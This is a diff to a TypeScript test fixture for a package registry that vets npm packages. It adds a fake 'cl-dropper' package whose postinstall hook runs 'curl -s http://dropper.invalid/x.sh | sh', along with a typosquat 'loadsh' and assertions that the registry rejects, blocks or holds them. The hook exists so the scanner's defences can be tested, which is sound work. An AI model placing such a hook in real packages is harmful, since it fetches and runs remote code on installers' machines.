@@ -5,6 +5,10 @@
  *
  *   cl-app@1.0.0 → cl-lib@^1.0.0 (1.0.0, 1.1.0), @cl-scope/util@^2.0.0 (2.0.0)
  *   fixture-termcolor 1.0.0 (benign) and 1.0.1 (a hijacked release the static rules reject)
+ *   cl-dropper 1.0.0 (its only version: a `curl … | sh` postinstall the static rules reject)
+ *   cl-icons@1.0.0 → cl-dropper@1.0.0 (approved itself; blocked by its dependency)
+ *   loadsh 1.0.0 (a typosquat of lodash: held for review)
+ *   never vetted (upstream only, left out of the scan): cl-lib 1.2.0, cl-fresh 1.0.0
  */
 import { strict as assert } from 'node:assert';
 import { mkdtemp, rm } from 'node:fs/promises';
@@ -18,9 +22,30 @@ import type { ServerProcess } from './support/server-process.js';
 
 export const REJECTED = { name: 'fixture-termcolor', version: '1.0.1' } as const;
 
-function pkg(name: string, version: string, dependencies: Record<string, string> = {}): FixturePackage {
+/** Upstream versions the scan leaves out: never vetted. */
+export const NEVER_VETTED = ['cl-lib@1.2.0', 'cl-fresh@1.0.0'] as const;
+
+/** The verdict each scanned version must get (the refusal tests rely on them). */
+const EXPECTED: Record<string, string> = {
+  'cl-app@1.0.0': 'approved',
+  'cl-lib@1.0.0': 'approved',
+  'cl-lib@1.1.0': 'approved',
+  '@cl-scope/util@2.0.0': 'approved',
+  'fixture-termcolor@1.0.0': 'approved',
+  'fixture-termcolor@1.0.1': 'rejected',
+  'cl-dropper@1.0.0': 'rejected',
+  'cl-icons@1.0.0': 'approved',
+  'loadsh@1.0.0': 'review',
+};
+
+function pkg(
+  name: string,
+  version: string,
+  dependencies: Record<string, string> = {},
+  scripts: Record<string, string> = {},
+): FixturePackage {
   return {
-    manifest: { name, version, main: 'index.js', license: 'MIT', dependencies },
+    manifest: { name, version, main: 'index.js', license: 'MIT', dependencies, scripts },
     files: { 'index.js': `module.exports = ${JSON.stringify(`${name}@${version}`)};\n` },
   };
 }
@@ -51,7 +76,10 @@ async function api<T>(url: string, init?: RequestInit): Promise<T> {
 
 /** Submits every upstream version as one scan and waits for its verdicts. */
 async function vetEverything(server: string, versions: PackedVersion[]): Promise<ScanBody> {
-  const nodes = versions.map((v) => ({
+  const vetted = versions.filter(
+    (v) => !(NEVER_VETTED as readonly string[]).includes(`${v.name}@${v.version}`),
+  );
+  const nodes = vetted.map((v) => ({
     key: `node_modules/${v.name}@${v.version}`,
     name: v.name,
     version: v.version,
@@ -80,7 +108,12 @@ export async function startClientsWorld(): Promise<ClientsWorld> {
       pkg('cl-app', '1.0.0', { 'cl-lib': '^1.0.0', '@cl-scope/util': '^2.0.0' }),
       pkg('cl-lib', '1.0.0'),
       pkg('cl-lib', '1.1.0'),
+      pkg('cl-lib', '1.2.0'),
       pkg('@cl-scope/util', '2.0.0'),
+      pkg('cl-dropper', '1.0.0', {}, { postinstall: 'curl -s http://dropper.invalid/x.sh | sh' }),
+      pkg('cl-icons', '1.0.0', { 'cl-dropper': '1.0.0' }),
+      pkg('loadsh', '1.0.0'),
+      pkg('cl-fresh', '1.0.0'),
     ],
   });
   const tmp = await mkdtemp(path.join(os.tmpdir(), 'sr-e2e-clients-'));
@@ -123,10 +156,84 @@ export async function startClientsWorld(): Promise<ClientsWorld> {
 /** Asserts the verdicts the client tests rely on, so a rule change fails here and not obscurely. */
 export function assertExpectedVerdicts(world: ClientsWorld): void {
   for (const [key, verdict] of world.verdicts) {
-    const expected = key === `${REJECTED.name}@${REJECTED.version}` ? 'rejected' : 'approved';
+    // In the scan, cl-icons is `blocked` by cl-dropper; its own artifact verdict is approved.
+    const expected = key === 'cl-icons@1.0.0' ? 'blocked' : EXPECTED[key];
     assert.equal(verdict.state, expected, `${key}: ${verdict.state} (${verdict.reason ?? ''})`);
   }
-  assert.equal(world.verdicts.size, 6);
+  assert.equal(world.verdicts.size, Object.keys(EXPECTED).length);
+}
+
+/** One case of a refused install: what is asked, and words its output must carry. */
+export interface RefusalCase {
+  title: string;
+  spec: string;
+  /** Must appear in the client's output (whitespace removed on both sides). */
+  says: string[];
+}
+
+/**
+ * The refusals every client must explain in its own output. `slug`: pnpm prints only the URL of a
+ * refused tarball, so it gets the URL's words for the reason (`rejected-…--see-secure-registry-…`).
+ */
+export function refusalCases(world: ClientsWorld, options: { pnpm?: boolean } = {}): RefusalCase[] {
+  const reason = rejectionReason(world);
+  const slug = (text: string) => text.replace(/[^A-Za-z0-9@._~+-]+/g, '-').slice(0, 40);
+  const pinnedRejected = options.pnpm
+    ? [`rejected-${slug(reason)}`, 'see-secure-registry-review-fixture-termcolor@1.0.1']
+    : [`rejected: ${reason}`, '`secure-registry review fixture-termcolor@1.0.1`'];
+  return [
+    {
+      title: 'a pinned rejected version with an approved sibling',
+      spec: 'fixture-termcolor@1.0.1',
+      says: pinnedRejected,
+    },
+    {
+      title: 'a range only the rejected version satisfies',
+      spec: 'fixture-termcolor@>1.0.0',
+      says: pinnedRejected,
+    },
+    {
+      title: 'a rejected version with no approved sibling',
+      spec: 'cl-dropper@1.0.0',
+      says: [
+        'no approved version of cl-dropper: 1 rejected (1.0.0: rejected:',
+        '`secure-registry review cl-dropper@1.0.0`',
+      ],
+    },
+    {
+      title: 'a blocked chain names the dependency',
+      spec: 'cl-icons@1.0.0',
+      says: ['no approved version of cl-dropper: 1 rejected', '`secure-registry review cl-dropper@1.0.0`'],
+    },
+    {
+      title: 'a held version says how to ask for a review',
+      spec: 'loadsh@1.0.0',
+      says: [
+        'no approved version of loadsh: 1 held for review',
+        'ask a reviewer to run `secure-registry review loadsh@1.0.0`',
+      ],
+    },
+    {
+      title: 'a never-vetted version of a vetted name',
+      spec: 'cl-lib@1.2.0',
+      says: options.pnpm
+        ? ['refused/not-yet-vetted--vet-it-with-secure-registry-install/cl-lib-1.2.0.tgz']
+        : ['secure-registry refused cl-lib@1.2.0: not yet vetted', '`secure-registry install cl-lib@1.2.0`'],
+    },
+    {
+      title: 'a never-vetted name',
+      spec: 'cl-fresh@1.0.0',
+      says: ['no approved version of cl-fresh: 1 not yet vetted', '`secure-registry install cl-fresh@1.0.0`'],
+    },
+  ];
+}
+
+/** Asserts a refused install's output carries every expected phrase. */
+export function assertSays(output: string, refusal: RefusalCase): void {
+  const squashed = output.replace(/[\s│]+/g, '');
+  for (const words of refusal.says) {
+    assert.ok(squashed.includes(words.replace(/\s+/g, '')), `${refusal.title}: no "${words}" in:\n${output}`);
+  }
 }
 
 /** The `rejected: …` reason the registry gives for the rejected version. */
